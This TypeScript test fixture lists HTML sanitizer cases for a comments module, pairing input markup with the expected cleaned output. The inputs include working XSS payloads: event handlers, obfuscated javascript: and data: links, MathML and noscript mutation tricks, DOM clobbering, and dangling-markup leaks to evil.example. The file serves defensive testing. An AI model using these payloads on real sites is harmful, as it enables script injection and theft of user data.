/**
 * The shapes every engine of the sanitizing boundary must turn into the same
 * inert markup: hostile ones (handlers, code URLs in any case or entity form,
 * frames, styles, forms, SVG and MathML, namespace confusion) and the usual
 * ones a JComments thread or a listing module prints. The unit tests run them
 * through DOMPurify; the browser suite runs them through both engines.
 */
export interface BoundaryCase {
  readonly name: string
  readonly html: string
  readonly keepForms?: boolean
  readonly linksInNewWindow?: boolean
  /** The sanitized nodes, serialized. */
  readonly expected: string
}

export const boundaryCases: readonly BoundaryCase[] = [
  {
    name: 'a comment body',
    html: '<div class="comment-body" id="comment-body-5"><b>bold</b> <a href="https://example.org/x" rel="nofollow">link</a> <img src="/images/smiles/smile.svg" alt=":)"></div>',
    expected:
      '<div class="comment-body" id="comment-body-5"><b>bold</b> <a href="https://example.org/x" rel="nofollow">link</a> <img src="/images/smiles/smile.svg" alt=":)"></div>',
  },
  {
    name: 'quotes, code and lists',
    html: '<blockquote><span class="quote-author">Sara</span><p>q</p></blockquote><pre><code>a &lt; b</code></pre><ul><li>1</li></ul><ol start="3"><li>3</li></ol><hr><br>',
    expected:
      '<blockquote><span class="quote-author">Sara</span><p>q</p></blockquote><pre><code>a &lt; b</code></pre><ul><li>1</li></ul><ol start="3"><li>3</li></ol><hr><br>',
  },
  {
    name: 'a table',
    html: '<table><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">c</td></tr></tbody></table>',
    expected:
      '<table><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">c</td></tr></tbody></table>',
  },
  {
    name: 'data and aria attributes',
    html: '<span data-score="3" aria-label="score" role="status" title="t" dir="rtl" lang="fa">۳</span>',
    expected:
      '<span data-score="3" aria-label="score" role="status" title="t" dir="rtl" lang="fa">۳</span>',
  },
  {
    name: 'an inline handler in every quoting style',
    html: `<a href="#" onclick="steal()">a</a><img src=x onerror=steal()><b ONMOUSEOVER='steal()'>b</b>`,
    expected: '<a href="#">a</a><img src="x"><b>b</b>',
  },
  {
    name: 'handlers on details and on a second body',
    html: '<p onmouseover="x()">p</p><details open ontoggle="x()"><summary>s</summary>d</details><body onload="x()">b',
    expected: '<p>p</p><details open=""><summary>s</summary>d</details>b',
  },
  {
    name: 'a handler the server wrote in the renamed form',
    html: '<a href="#" data-inline-onclick="steal()" data-inline="1">a</a>',
    expected: '<a href="#">a</a>',
  },
  {
    name: 'style attributes and elements',
    html: '<span style="color:red">x</span><style>body{display:none}</style><p STYLE="a">y</p>',
    expected: '<span>x</span><p>y</p>',
  },
  {
    name: 'scripts',
    html: '<script>alert(1)</script><p>text</p><script src="https://evil.example/x.js"></script>',
    expected: '<p>text</p>',
  },
  {
    name: 'frames, objects and embeds',
    html: '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>x()</script>">f</iframe><object data="x.swf">o</object><embed src="x.swf"><frameset><frame src="x"></frameset>',
    expected: '',
  },
  {
    name: 'markup that opens with a frameset, read as the inside of an element',
    html: '<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset>after',
    expected: 'after',
  },
  {
    name: 'names that would clobber the document or a form',
    keepForms: true,
    html: '<img name="cookie" alt="c"><img id="getElementById" name="body" alt="g"><a id="location">l</a><form name="querySelector"><input name="elements"><input name="action"><input id="r" name="reason"></form><p id="comments-list-0">kept</p>',
    expected:
      '<img alt="c"><img alt="g">l<form><input><input><input id="r" name="reason"></form><p id="comments-list-0">kept</p>',
  },
  {
    name: 'javascript: in any case, with entities and whitespace',
    html: '<a href="javascript:alert(1)">1</a><a href="JaVaScRiPt:alert(1)">2</a><a href="java&#x09;script:alert(1)">3</a><a href="&#106;avascript:alert(1)">4</a><a href=" javascript:alert(1)">5</a><a href="jav&#x0A;ascript:alert(1)">6</a>',
    expected: '123456',
  },
  {
    name: 'data: and vbscript: links',
    html: '<a href="data:text/html;base64,PHNjcmlwdD4=">d</a><a href="DATA:text/html,x">D</a><a href="vbscript:msgbox(1)">v</a><a href="blob:https://x/y">b</a>',
    expected: 'dDvb',
  },
  {
    name: 'data: in src as in href: images, SVG ones included, and data: elsewhere',
    html: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="p"><img src="data:image/svg+xml;base64,PHN2Zy8+" alt="s"><img src=" DATA:image/svg+xml,%3Csvg%3E" alt="u"><img src="data:text/html,x" alt="h"><blockquote cite="data:text/html,x">q</blockquote>',
    expected: '<img alt="p"><img alt="s"><img alt="u"><img alt="h"><blockquote>q</blockquote>',
  },
  {
    name: 'dangling markup: an address holding a line break or a less-than',
    html: '<img alt="d" src="https://evil.example/log?\n<p>secret</p>"><a href="https://evil.example/?q=<b>x</b>">link</a><a href="https://example.org/a\rb">r</a><p>after</p>',
    expected: '<img alt="d">linkr<p>after</p>',
  },
  {
    name: 'plain starts in any case, and dangling markup after a page or path start',
    html: '<a href="HTTPS://example.org/A">a</a><a href="MailTo:a@b.c">b</a><a href="Http:x">c</a><a href="#top\n<p>x</p>">d</a><a href="/a?<b>">e</a><blockquote cite="/q\rx">f</blockquote>',
    expected:
      '<a href="HTTPS://example.org/A">a</a><a href="MailTo:a@b.c">b</a><a href="Http:x">c</a>de<blockquote>f</blockquote>',
  },
  {
    name: 'a link without an address becomes its text, unless it carries data or is an anchor',
    html: '<a href="data:image/png;base64,iVBO" data-lightbox="set"><img src="/images/t.jpg" alt="t"></a><a href="javascript:x()" class="c" title="t">text</a><a id="top">an anchor</a>',
    expected:
      '<a data-lightbox="set"><img src="/images/t.jpg" alt="t"></a>text<a id="top">an anchor</a>',
  },
  {
    name: 'relative, protocol-relative, mail and empty links',
    html: '<a href="/fa/x.html">a</a><a href="x.html?a=b:c">b</a><a href="#c">c</a><a href="//example.org/x">d</a><a href="mailto:a@b.c">e</a><a href="">f</a>',
    expected:
      '<a href="/fa/x.html">a</a><a href="x.html?a=b:c">b</a><a href="#c">c</a><a href="//example.org/x">d</a><a href="mailto:a@b.c">e</a><a href="">f</a>',
  },
  {
    name: 'SVG with animate and onbegin',
    html: '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate><a href="javascript:alert(1)"><text>t</text></a></svg>after',
    expected: 'after',
  },
  {
    name: 'MathML and namespace confusion',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    expected: '',
  },
  {
    name: 'noscript and template',
    html: '<p>a</p><noscript><p title="</noscript><img src=x onerror=alert(1)>">n</p></noscript><template><img src=x onerror=alert(1)></template>',
    expected: '<p>a</p>',
  },
  {
    name: 'forms, controls and formaction',
    html: '<form action="https://evil.example" onsubmit="x()"><input name="a" value="v"><button formaction="javascript:alert(1)">go</button><textarea>t</textarea><select><option>o</option></select></form><p>after</p>',
    expected: '<p>after</p>',
  },
  {
    name: 'a server form kept to be read',
    keepForms: true,
    html: '<form id="f" action="javascript:void(null);" onsubmit="x()"><label for="r">Reason</label><input id="r" name="reason" onfocus="x()" formaction="javascript:x()"><input type="hidden" name="commentid" value="5"><textarea name="comment" rows="8" cols="65">t</textarea><button type="submit">Send</button></form>',
    expected:
      '<form id="f"><label for="r">Reason</label><input id="r" name="reason"><input type="hidden" name="commentid" value="5"><textarea name="comment" rows="8" cols="65">t</textarea><button type="submit">Send</button></form>',
  },
  {
    name: 'unknown and custom elements',
    html: '<p>a</p><foo>unknown</foo><jc-comments object-id="1">nested</jc-comments><marquee>m</marquee><p>b</p>',
    expected: '<p>a</p><p>b</p>',
  },
  {
    name: 'link targets without asking',
    html: '<a href="/x">x</a><a href="/y" target="_blank" rel="nofollow">y</a><a href="/z" target="other">z</a><div target="_blank">d</div>',
    expected:
      '<a href="/x">x</a><a href="/y" target="_blank" rel="nofollow noopener noreferrer">y</a><a href="/z">z</a><div>d</div>',
  },
  {
    name: 'link targets when links open in a new window',
    linksInNewWindow: true,
    html: '<a href="/x">x</a><a href="/y" target="_top">y</a>',
    expected:
      '<a href="/x" target="_blank" rel="noopener noreferrer">x</a><a href="/y" target="_blank" rel="noopener noreferrer">y</a>',
  },
  {
    name: 'comments and a lone less-than',
    html: '<p>2 &lt; 3<!-- <img src=x onerror=alert(1)> --></p>1 < 2',
    expected: '<p>2 &lt; 3</p>1 &lt; 2',
  },
  {
    name: 'attributes that are not allowed',
    html: '<img src="x" srcset="javascript:alert(1) 1x" usemap="#m" ismap><a href="/x" ping="https://evil.example" download>d</a><div popover id="p">p</div>',
    expected: '<img src="x"><a href="/x">d</a><div id="p">p</div>',
  },
]

/** Sanitized nodes as markup, to compare engines. */
export function serialize(fragment: DocumentFragment): string {
  const holder = fragment.ownerDocument.createElement('div')
  holder.append(fragment)
  return holder.innerHTML
}
